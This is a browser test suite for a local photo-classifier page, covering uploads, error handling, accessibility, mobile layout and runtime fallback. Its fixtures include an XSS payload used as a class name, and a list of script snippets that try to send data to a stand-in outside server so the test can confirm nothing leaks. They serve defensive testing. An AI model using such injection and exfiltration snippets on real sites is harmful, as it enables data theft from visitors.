"""The page as a visitor meets it: choosing, dropping, errors, phones, keyboards, and no leak."""

import base64
import io
import json
import shutil
import struct
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from export.runtime import Classifier
from fedprompt.backbone.clip import FrozenClip
from fedprompt.npm import Package, fetch_files
from tests.browser import chromium
from tests.conftest import tiny_clip
from tests.web_folder import served, write_page

HOSTILE = "<img src=x onerror=alert(1)>"
LONG = "Donaudampfschifffahrtsgesellschaft" * 3
CLASSES = ("great grey owl", HOSTILE, LONG, "tench", "sea", "maple tree", "lynx")
AXE = Package(
    name="axe-core",
    version="4.14.1",
    integrity="sha512-FHfa+lmNjQZfJz1q8wKqIDwC6DExcHt/pkjNQb09a3NPjCKg2rhu5qb2S4r76ASyFNNtuFooJpZe37"
    "OgudVGtQ==",
    size=708_405,
)
ATTEMPTS = (  # as if somebody had got a script of his own into the page
    "fetch(other + 'fetch').catch(() => 0)",
    "new Image().src = other + 'image'",
    "navigator.sendBeacon(other + 'beacon', 'x')",
    "const s = document.createElement('script'); s.src = other + 's'; document.body.append(s)",
    "const f = document.createElement('iframe'); f.src = other + 'f'; document.body.append(f)",
    "new WebSocket(other.replace('http', 'ws'))",
    "const f = document.body.appendChild(document.createElement('form'));"
    "f.action = other + 'form'; f.submit()",
)
ADAPTER = "Object.defineProperty(navigator, 'gpu', {value: {requestAdapter: async () => ({})}})"
ONE_AT_A_TIME = """
let busy = false;
export const env = { wasm: {} };
export class Tensor {}
async function run() {
  if (busy) throw new Error("asked while it computes");
  busy = true;
  await new Promise((done) => setTimeout(done, 30));
  busy = false;
  return { logits: { data: LOGITS } };
}
export const InferenceSession = { create: async () => ({ run }) };
"""
THREE_AT_ONCE = """
async () => {
  const { openClassifier } = await import("/classifier.js");
  const classifier = await openClassifier(() => {}, "WebGPU");
  const photo = { data: new Uint8Array(3 * classifier.facts.size ** 2) };
  const shares = await Promise.all([1, 2, 3].map(() => classifier.probabilities(photo)));
  return [classifier.runtime, shares.length];
}
"""
LENGTHEN = """
(name) => {
  for (const part of document.querySelectorAll("#answer, #best .name")) part.textContent = name;
}
"""
GIVE = """
([kind, name, photo]) => {
  const bytes = Uint8Array.from(atob(photo), (letter) => letter.charCodeAt(0));
  const given = new DataTransfer();
  given.items.add(new File([bytes], name));
  const options = { bubbles: true, cancelable: true };
  const event = kind === "paste"
    ? new ClipboardEvent(kind, { ...options, clipboardData: given })
    : new DragEvent(kind, { ...options, dataTransfer: given });
  document.body.dispatchEvent(event);
  return event.defaultPrevented;
}
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("web") / "page"
    write_page(tiny_clip(), CLASSES, folder)
    return folder


@pytest.fixture(scope="module")
def address(folder: Path) -> Iterator[str]:
    with served(folder) as (address, _):
        yield address


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def page(browser: Browser, address: str) -> Iterator[Page]:
    page = browser.new_page()
    page.goto(address)
    expect(page.locator("#photo")).to_be_enabled(timeout=180_000)
    yield page
    page.close()


@pytest.fixture(scope="module")
def photo(folder: Path) -> Path:
    return save(folder.parent / "photo.png", 3)


def save(path: Path, seed: int) -> Path:
    pixels = np.random.default_rng(seed).integers(0, 256, (50, 70, 3), dtype=np.uint8)
    Image.fromarray(pixels).save(path)
    return path


def answers(page: Page) -> dict[str, str]:
    """Return the whole table: class -> probability as shown."""
    page.locator("#rest").evaluate("(details) => { details.open = true; }")
    rows = page.locator("#all tr").all()
    return {r.locator("th").inner_text(): r.locator("td").inner_text() for r in rows}


def expected(folder: Path, photo: Path) -> dict[str, str]:
    [found] = Classifier(folder.parent / "page.onnx").predict([photo], top_k=len(CLASSES))
    return {
        name: f"{100 * share:.1f} %"
        for name, share in zip(found.classes, found.probabilities, strict=True)
    }


def test_a_chosen_photo_is_answered_as_in_python(page: Page, folder: Path, photo: Path) -> None:
    page.set_input_files("#photo", photo)
    wanted = expected(folder, photo)
    best = next(iter(wanted))
    expect(page.locator("#answer")).to_have_text(best)
    expect(page.locator("#status")).to_contain_text(f"{best}, {wanted[best]}")
    expect(page.get_by_alt_text("Your photo, photo.png")).to_be_visible()
    assert answers(page) == wanted
    assert list(answers(page)) == list(wanted), "best first"
    bars = [bar.inner_text().split("\n") for bar in page.locator("#best li").all()]
    assert [bar[:2] for bar in bars] == [list(item) for item in list(wanted.items())[:5]]
    assert page.locator("#result img").count() == 1, "a class name is text, whatever it says"


@pytest.mark.parametrize("kind", ["drop", "paste"])
def test_a_photo_may_be_dropped_or_pasted(page: Page, folder: Path, photo: Path, kind: str) -> None:
    given = [kind, "gift.png", base64.b64encode(photo.read_bytes()).decode()]
    prevented = page.evaluate(GIVE, given)
    assert prevented or kind == "paste", "the browser would leave the page for the file"
    expect(page.get_by_alt_text("Your photo, gift.png")).to_be_visible()
    assert answers(page) == expected(folder, photo)


def test_the_last_photo_wins(page: Page, folder: Path, photo: Path, tmp_path: Path) -> None:
    other = save(tmp_path / "other.png", 4)
    for path in (photo, other, photo, other):
        page.set_input_files("#photo", path)
    expect(page.get_by_alt_text("Your photo, other.png")).to_be_visible()
    expect(page.locator("#status")).to_contain_text("Classified")
    assert answers(page) == expected(folder, other)


def test_the_keyboard_is_enough(page: Page, photo: Path) -> None:
    page.reload()
    expect(page.locator("#photo")).to_be_enabled(timeout=180_000)
    page.keyboard.press("Tab")
    expect(page.get_by_label("Drop a photo here or choose one")).to_be_focused()
    page.evaluate("photo.addEventListener('click', () => { window.opened = true; })")
    page.on("filechooser", lambda chooser: None)  # else a real window would open and wait
    page.keyboard.press("Enter")  # whether a chooser then comes is chance in a headless Chromium
    page.wait_for_function("window.opened")
    page.set_input_files("#photo", photo)
    expect(page.locator("#result")).to_be_visible()
    page.keyboard.press("Tab")
    expect(page.locator("#more")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#all tr")).to_have_count(len(CLASSES))
    expect(page.locator("#all")).to_be_visible()


def png_of(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "PNG")
    return buffer.getvalue().replace(struct.pack(">II", 8, 8), struct.pack(">II", width, height))


def encoded(kind: str) -> bytes:
    buffer = io.BytesIO()
    pixels = np.random.default_rng(0).integers(0, 256, (90, 90, 3), dtype=np.uint8)
    Image.fromarray(pixels).save(buffer, kind)
    return buffer.getvalue()


BAD = {
    "no image": (b"hello, this is text", "no JPEG, PNG, WebP, GIF or BMP"),
    "empty": (b"", "empty"),
    "vector": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "no JPEG, PNG"),
    "tiff": (encoded("TIFF"), "no JPEG, PNG"),
    "bomb": (png_of(100_000, 100_000), "100000 x 100000 pixels, 64 million at most"),
    "no width": (png_of(0, 8), "0 x 8 pixels"),
    "broken": (png_of(16, 8), "damaged"),
    "start of a jpeg": (encoded("JPEG")[:300], "damaged or cut off"),
    "half a jpeg": (encoded("JPEG")[:3000], "damaged or cut off"),
    "half a png": (encoded("PNG")[:3000], "damaged or cut off"),
    "half a webp": (encoded("WEBP")[:1500], "damaged or cut off"),
    "half a gif": (encoded("GIF")[:20], "damaged"),
    "half a bmp": (encoded("BMP")[:20], "damaged"),
    "a name only": (b"BM", "damaged or cut off"),
    "signature": (encoded("PNG")[:8], "damaged or cut off"),
}


def test_what_is_no_photo_is_explained(page: Page, photo: Path, tmp_path: Path) -> None:
    for name, (content, message) in BAD.items():
        (tmp_path / name).write_bytes(content)
        page.set_input_files("#photo", tmp_path / name)
        expect(page.get_by_role("alert"), name).to_contain_text(message)
        expect(page.locator("#result"), name).to_be_hidden()
        page.set_input_files("#photo", photo)
        expect(page.locator("#result"), "the page goes on").to_be_visible()
        expect(page.locator("#error")).to_be_hidden()


def test_any_damage_is_an_error_or_an_answer(page: Page, tmp_path: Path) -> None:
    trouble: list[object] = []
    page.on("console", lambda message: trouble.append(message.text))
    page.on("pageerror", lambda error: trouble.append(error))
    rng = np.random.default_rng(0)
    for kind in ("JPEG", "PNG", "WEBP", "GIF", "BMP"):
        good = encoded(kind)
        for number in range(8):
            bad = bytearray(good)
            for place in rng.integers(2, min(len(bad), 400), 4):
                bad[place] = rng.integers(0, 256)
            path = tmp_path / f"{kind}-{number}"
            path.write_bytes(bad)
            page.set_input_files("#photo", path)
            done = f"[alt='Your photo, {path.name}'], #error:not([hidden])"
            page.locator(done).first.wait_for()
    assert trouble == []


def test_nothing_leaves_the_page(browser: Browser, folder: Path, photo: Path) -> None:
    (folder.parent / "elsewhere").mkdir(exist_ok=True)
    with served(folder) as (address, seen), served(folder.parent / "elsewhere") as (other, leaked):
        page = browser.new_page()
        asked: list[tuple[str, str, bool]] = []
        page.on(
            "request", lambda r: asked.append((r.method, r.url, r.post_data_buffer is not None))
        )
        page.goto(address)
        expect(page.locator("#photo")).to_be_enabled(timeout=180_000)
        before = len(seen)
        page.set_input_files("#photo", photo)
        expect(page.locator("#result")).to_be_visible()
        assert len(seen) == before, "a photo causes no request at all"
        own = (address, f"blob:{address}")
        assert all(
            url.startswith(own) and method == "GET" and not body for method, url, body in asked
        )
        assert {path.lstrip("/") for path in seen if path != "/"} <= {
            str(path.relative_to(folder)) for path in folder.rglob("*")
        }
        for attempt in ATTEMPTS:
            page.evaluate(f"(other) => {{ {attempt} }}", other)
        page.wait_for_timeout(300)
        assert leaked == []
        page.close()


def test_the_page_is_accessible(page: Page, photo: Path) -> None:
    """Ask axe-core: labels, roles, contrast, order of headings and the rest of WCAG 2.2 AA."""
    page.evaluate(fetch_files(AXE, lambda name: name == "axe.min.js")["axe.min.js"].decode())
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        page.set_input_files("#photo", photo)
        expect(page.locator("#result")).to_be_visible()
        answers(page)
        assert violations(page) == [], f"{scheme}, answered"
        page.set_input_files("#photo", {"name": "x", "mimeType": "", "buffer": b"none"})
        expect(page.get_by_role("alert")).to_be_visible()
        assert violations(page) == [], f"{scheme}, refused"


def violations(page: Page) -> list[tuple[str, list[str]]]:
    found = page.evaluate("axe.run()")
    assert len(found["passes"]) > 15, "axe looked at the page"
    return [(rule["id"], [node["html"] for node in rule["nodes"]]) for rule in found["violations"]]


@pytest.mark.parametrize("width", [320, 375])
def test_a_phone_is_wide_enough(page: Page, photo: Path, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 700})
    page.set_input_files("#photo", photo)
    expect(page.locator("#result")).to_be_visible()
    answers(page)
    page.evaluate(LENGTHEN, LONG)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    for part in ("#drop", "#result", "#picture", "#best", "#facts"):
        box = page.locator(part).bounding_box()
        assert box is not None, part
        assert box["x"] >= 0, part
        assert box["x"] + box["width"] <= width, part
    target = page.locator("#photo").bounding_box()
    assert target is not None
    assert min(target["width"], target["height"]) >= 44, "a thumb's size"


def test_a_runtime_that_does_not_load_is_replaced(
    browser: Browser, address: str, folder: Path, photo: Path
) -> None:
    page = browser.new_page()
    page.add_init_script(ADAPTER)
    page.route("**/webgpu.js", lambda route: route.abort())
    page.goto(address)
    expect(page.locator("#facts")).to_contain_text("WebAssembly", timeout=180_000)
    page.set_input_files("#photo", photo)
    expect(page.locator("#result")).to_be_visible()
    assert answers(page) == expected(folder, photo)
    page.close()


def test_photos_that_come_at_once_are_computed_one_after_the_other(
    browser: Browser, address: str
) -> None:
    """As WebGPU's runtime wants it, which else never answers again (test_web_gpu.py)."""
    page = browser.new_page()
    page.add_init_script(ADAPTER)
    logits = page.request.get(f"{address}classifier.json").json()["probe_logits"]
    script = ONE_AT_A_TIME.replace("LOGITS", json.dumps(logits))
    page.route("**/webgpu.js", lambda r: r.fulfill(body=script, content_type="text/javascript"))
    page.goto(f"{address}icon.svg")  # of the same server, and without the page's own classifier
    assert page.evaluate(THREE_AT_ONCE) == ["WebGPU", 3]
    page.close()


def test_a_runtime_that_answers_something_else_is_not_used(browser: Browser, address: str) -> None:
    page = browser.new_page()
    facts = page.request.get(f"{address}classifier.json").json()
    facts["probe_logits"][0] += 1
    page.route("**/classifier.json", lambda route: route.fulfill(json=facts))
    page.goto(address)
    expect(page.get_by_role("alert")).to_contain_text(
        "does not run in this browser", timeout=180_000
    )
    expect(page.locator("#photo")).to_be_disabled()
    page.close()


@pytest.mark.parametrize("damage", ["other graph", "short graph", "no graph", "short probe"])
def test_files_that_do_not_belong_together(
    browser: Browser, folder: Path, tmp_path: Path, damage: str
) -> None:
    copy = Path(shutil.copytree(folder, tmp_path / "copy"))
    model = copy / "classifier.onnx"
    content = model.read_bytes()
    if damage == "no graph":
        model.unlink()
    elif damage == "short probe":
        (copy / "probe.bin").write_bytes(b"short")
    else:
        model.write_bytes(content[:-1] + (b"?" if damage == "other graph" else b""))
    message = "could not be loaded" if damage == "no graph" else "do not belong together"
    with served(copy) as (address, _):
        page = browser.new_page()
        page.goto(address)
        expect(page.get_by_role("alert")).to_contain_text(message)
        page.close()


def test_the_facts_are_those_of_the_file(folder: Path) -> None:
    facts = json.loads((folder / "classifier.json").read_text())
    assert tuple(facts["classes"]) == Classifier(folder.parent / "page.onnx").classes


def test_the_tiny_clip_is_what_the_page_says(page: Page, clip: FrozenClip) -> None:
    expect(page.locator("#facts")).to_contain_text(f"{len(CLASSES)} classes · {clip.name}")
